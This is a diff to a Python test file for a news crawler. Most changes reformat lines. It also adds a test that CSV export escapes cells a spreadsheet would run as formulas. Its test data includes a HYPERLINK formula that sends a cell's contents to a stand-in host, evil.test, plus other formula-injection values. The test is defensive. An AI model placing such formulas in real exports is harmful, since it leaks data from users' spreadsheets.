@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import sqlite3
 import subprocess
+import sys
 from pathlib import Path
 from subprocess import PIPE
 
@@ -19,7 +20,9 @@ A = "/html/2025/0103/"
 
 
 def listing(*hrefs: str) -> bytes:
-    items = "".join(f"<li><a href='{href}'>一篇足够长的新闻文章标题{n}</a></li>" for n, href in enumerate(hrefs))
+    items = "".join(
+        f"<li><a href='{href}'>一篇足够长的新闻文章标题{n}</a></li>" for n, href in enumerate(hrefs)
+    )
     return f"<html><head><meta charset='utf-8'></head><body><ul>{items}</ul></body></html>".encode()
 
 
@@ -221,7 +224,9 @@ def test_sigkill_leaves_no_extraction_worker_nor_resource_tracker(tmp_path):
     routes = {"/": page(listing(*hrefs)), **{href: slow(0.5, ARTICLE) for href in hrefs}}
     with RouteServer(routes) as server:
         command = crawl_command([server.url + "/"], db, {"ROBOTSTXT_OBEY": "False", "EXTRACT_WORKERS": "1"})
-        crawl = subprocess.Popen(command, stdout=PIPE, stderr=subprocess.DEVNULL, cwd=ROOT, start_new_session=True)
+        crawl = subprocess.Popen(
+            command, stdout=PIPE, stderr=subprocess.DEVNULL, cwd=ROOT, start_new_session=True
+        )
         eof = threading.Event()
         reader = threading.Thread(target=lambda: (crawl.stdout.read(), eof.set()), daemon=True)
         try:
@@ -256,7 +261,11 @@ def test_autothrottle_lowers_its_delay_after_fast_304s():
     from crawler.middlewares import AutoThrottle
     from crawler.spiders.articles import ArticlesSpider
 
-    settings = {"AUTOTHROTTLE_ENABLED": True, "AUTOTHROTTLE_START_DELAY": 5, "AUTOTHROTTLE_TARGET_CONCURRENCY": 4}
+    settings = {
+        "AUTOTHROTTLE_ENABLED": True,
+        "AUTOTHROTTLE_START_DELAY": 5,
+        "AUTOTHROTTLE_TARGET_CONCURRENCY": 4,
+    }
     throttle = AutoThrottle.from_crawler(get_crawler(ArticlesSpider, settings))
     throttle.mindelay, throttle.maxdelay = 0.0, 30.0  # as set when the spider opens (DOWNLOAD_DELAY 0)
     slot = Slot(concurrency=8, delay=5.0, jitter=0)
@@ -295,3 +304,42 @@ def test_retry_after_is_waited_for_within_a_bound(tmp_path, retry_after, setting
     assert result.returncode == 0, result.stderr[-2000:]
     assert len(times) == 2 and times[1] - times[0] >= at_least
     assert articles(db) == {f"{A}3401.html"}
+
+
+# --- CSV for spreadsheets ------------------------------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
+    import csv
+
+    from crawler.archive import Archive
+
+    db = tmp_path / "archive.db"
+    hostile = [
+        '=HYPERLINK("http://evil.test/?"&A1,"点击")',
+        "+1+2",
+        "-3+4",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "平常的标题",
+    ]
+    with Archive(db) as archive:
+        for n, title in enumerate(hostile):
+            archive.db["articles"].insert({"url": f"http://127.0.0.1/{A}{3500 + n}.html", "title": title})
+    out = {}
+    for fmt in ("csv", "jsonl"):
+        out[fmt] = tmp_path / f"out.{fmt}"
+        args = [sys.executable, "-m", "crawler.cli", "export", "--db", str(db), "--format", fmt]
+        done = subprocess.run(
+            [*args, "--out", str(out[fmt]), "--fields", "url,title", "--bom"],
+            cwd=ROOT,
+            capture_output=True,
+            text=True,
+        )
+        assert done.returncode == 0, done.stderr
+    with open(out["csv"], encoding="utf-8-sig", newline="") as handle:
+        titles = [row["title"] for row in csv.DictReader(handle)]
+    assert titles == ["'" + t for t in hostile[:-1]] + [hostile[-1]]
+    with open(out["jsonl"], encoding="utf-8-sig") as handle:
+        assert [json.loads(line)["title"] for line in handle] == hostile  # JSON Lines unchanged
